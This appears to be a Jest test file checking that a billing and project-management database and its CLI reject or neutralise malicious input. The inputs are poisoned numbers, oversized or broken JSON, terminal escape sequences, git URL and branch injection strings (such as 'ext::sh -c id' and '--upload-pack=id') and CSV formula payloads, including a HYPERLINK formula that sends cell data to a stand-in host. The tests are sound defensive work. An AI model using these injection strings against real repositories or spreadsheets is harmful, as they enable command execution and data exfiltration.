import { buildCli } from '../../../tests/stories/cli/program';
import { attempt, codeOf, INVALID, valueOf } from '../refusal';
import { MONTH } from '../seed-billing';
import { createWorld, type World } from '../world';

let world: World;
beforeAll(async () => {
  world = await createWorld();
});
afterAll(() => world.close());

describe('poisoned numbers, JSON, terminal escapes, Slack markup', () => {
  it.each([
    ['cost_usd', 'NaN'],
    ['cost_usd', 'Infinity'],
    ['cost_usd', '1e400'],
    ['cost_usd', '1e12'],
    ['cost_usd', 'lots'],
    ['input_tokens', '1.5'],
    ['output_tokens', '99999999999999999999'],
    ['cache_read_tokens', 'NaN'],
  ])('refuses %s of %s, and the sums stay sums', async (key, value) => {
    const daemon = await world.as('daemon');
    const { red } = world.ids;
    const sql = 'select daemon.update_attempt($1, $2, $3)';
    const code = await codeOf(daemon, sql, [red.item, red.fence, { [key]: value }]);
    expect(code).toMatch(/^(22|23)/);
    const sum = await valueOf<string>(
      await world.as('ben'),
      'select sum(cost_usd) from analytics.attempt_spend',
    );
    expect(Number(sum)).toBeGreaterThanOrEqual(0);
  });

  it('passes over what is less than nothing: totals only grow', async () => {
    const daemon = await world.as('daemon');
    const { red } = world.ids;
    const facts = { cost_usd: -1, input_tokens: -5 };
    await daemon.query('select daemon.update_attempt($1, $2, $3)', [red.item, red.fence, facts]);
    const { rows } = await daemon.query(
      'select cost_usd::float, input_tokens::int from coffee.attempts where id = $1',
      [red.attempt],
    );
    expect(rows).toEqual([{ cost_usd: 0, input_tokens: 0 }]);
  });

  it.each(['NaN', 'Infinity', '-1'])('refuses a budget of %s', async (value) => {
    const ben = await world.as('ben');
    for (const key of ['budget_item_usd', 'budget_day_usd']) {
      const code = await codeOf(ben, 'select coffee.set_project($1, $2)', [
        world.ids.red.project,
        { [key]: value },
      ]);
      expect(code).toMatch(/^(22|23)/);
    }
  });

  it.each([
    ['a NUL', `'{"a": "\\u0000"}'`],
    ['a hundred thousand brackets', `(repeat('[', 100000) || repeat(']', 100000))`],
    ['half a document', `'{"a": '`],
    ['more than it may hold', `(select jsonb_build_object('a', repeat('x', 200000)))`],
  ])('refuses JSON with %s', async (_what, json) => {
    const daemon = await world.as('daemon');
    const { red } = world.ids;
    const sql = `select daemon.record_step(${red.item}, ${red.fence}, 'note', 'x', ${json}::jsonb)`;
    expect(await codeOf(daemon, sql)).toMatch(/^(22|23|54)/);
  });

  it.each([
    ['null'],
    ['[]'],
    ['1'],
    ['"x"'],
    ['{"options": 5}'],
    ['{"options": [5]}'],
    ['{"timeout_s": "x"}'],
    ['{"timeout_s": 1e300, "default_answer": "x"}'],
    ['{"item_id": "x"}'],
    ['{"kind": "x"}'],
    ['{"context": []}'],
  ])('answers settings of %s with an error or an ordinary question', async (json) => {
    const outcome = await attempt(await world.as('agent'), `select coffee.ask($1, 'x', '', $2)`, [
      world.ids.red.project,
      json,
    ]);
    expect(outcome.code).toMatch(/^(ok|22...|23...|CR002)$/);
  });

  const ESCAPES = {
    bell: '\u0007',
    escape: '\u001b[31m',
    'eight-bit CSI': '\u009b31m',
    newline: 'a\nb',
    'turned text': '\u202egnp',
  };

  it.each(Object.entries(ESCAPES))('lets no %s into a name', async (_what, text) => {
    const anna = await world.as('anna');
    expect(await codeOf(anna, `select coffee.add_login('person', $1)`, [`x${text}`])).toBe(INVALID);
    expect(await codeOf(anna, 'select coffee.add_team($1)', [`x${text}`])).toBe(INVALID);
    expect(await codeOf(anna, `select coffee.add_project(null, $1, '/x')`, [`x${text}`])).toBe(
      '23514',
    );
  });

  it.each(Object.entries(ESCAPES))("takes %s out of a question's title", async (_what, text) => {
    const daemon = await world.as('daemon');
    const title = await valueOf<string>(daemon, `select (coffee.ask($1, $2)).title`, [
      world.ids.red.project,
      `x${text}y`,
    ]);
    expect(title).toMatch(/^x[\x20-\x7e]*y$/);
  });

  it('keeps markup as it was written: whoever shows a text escapes it for where it is shown', async () => {
    const daemon = await world.as('daemon');
    const message = '<!channel> *bold* <https://example.invalid|click> `code`';
    const kept = await valueOf(daemon, `select (coffee.ask($1, 'x', $2)).message`, [
      world.ids.red.project,
      message,
    ]);
    expect(kept).toBe(message);
  });
});

describe('git url injection', () => {
  it.each([
    'ext::sh -c id',
    'fd::17',
    'EXT::sh',
    '-upload-pack=id',
    '--upload-pack=id',
    'https://user:secret@host/x',
    'HTTPS://user:secret@host/x',
    'https://:secret@host/x',
    `https://ghp_${'x'.repeat(36)}@github.com/x/y`,
    'https://glpat-xxxxxxxxxxxxxxxxxxxx@gitlab.com/x/y',
    'ssh://git:secret@host/x',
    'host\n/x',
    '\u001b[2J',
    '',
  ])('no project points to %j', async (repository) => {
    const ben = await world.as('ben');
    const code = await codeOf(ben, `select coffee.add_project(null, 'url', $1)`, [repository]);
    expect(code).toMatch(/^(CR002|23514)$/);
    const set = await codeOf(ben, 'select coffee.set_project($1, $2)', [
      world.ids.red.project,
      { repository },
    ]);
    expect(set).toMatch(/^(CR002|23514)$/);
  });

  it.each([
    'https://github.com/x/y.git',
    'https://org@dev.azure.com/org/p/_git/r',
    'ssh://git@host:2222/x',
    'git@host:x/y.git',
    '/srv/git/x',
    'file:///srv/git/x',
    'ssh://git@[2001:db8::1]/x',
    'C:/work/x',
  ])('a project may point to %s', async (repository) => {
    const code = await codeOf(await world.as('ben'), 'select coffee.set_project($1, $2)', [
      world.ids.red.project,
      { repository },
    ]);
    expect(code).toBe('ok');
  });

  it.each(['-x', '--upload-pack=id', 'a b', 'a\nb', '\u001b[2J'])(
    'no branch is called %j',
    async (branch) => {
      const { red } = world.ids;
      const ben = await world.as('ben');
      const daemon = await world.as('daemon');
      expect(
        await codeOf(ben, 'select coffee.set_project($1, $2)', [
          red.project,
          { default_branch: branch },
        ]),
      ).toBe('23514');
      expect(
        await codeOf(daemon, 'select daemon.set_default_branch($1, $2)', [red.project, branch]),
      ).toBe('23514');
      expect(
        await codeOf(daemon, 'select daemon.update_attempt($1, $2, $3)', [
          red.item,
          red.fence,
          { branch },
        ]),
      ).toBe('23514');
    },
  );
});

describe('CSV formulas', () => {
  it.each(['=HYPERLINK("http://x/"&A1,"pay")', '+1+cmd|calc', '-2+3', '@SUM(A1)'])(
    'a client called %s is a text in what is exported of billing',
    async (client) => {
      const { login, password } = world.login('mona');
      const mona = await world.as('mona');
      const billing = [world.ids.red.project, { client }];
      expect(await codeOf(mona, 'select coffee.set_billing($1, $2)', billing)).toBe('ok');
      const program = buildCli();
      try {
        const cli = program.as(world.database.urlFor(login, password));
        const args = ['billing', 'export', '--month', MONTH.slice(0, 7), '--format', 'csv'];
        const { code, stdout } = await cli.run(args);
        const [, first = ''] = stdout.split('\r\n');
        const quoted = client.includes('"') ? `"'${client.replaceAll('"', '""')}"` : `'${client}`;
        expect([code, first.slice(0, quoted.length + 1)]).toEqual([0, `${quoted},`]);
      } finally {
        program.remove();
      }
    },
  );
});
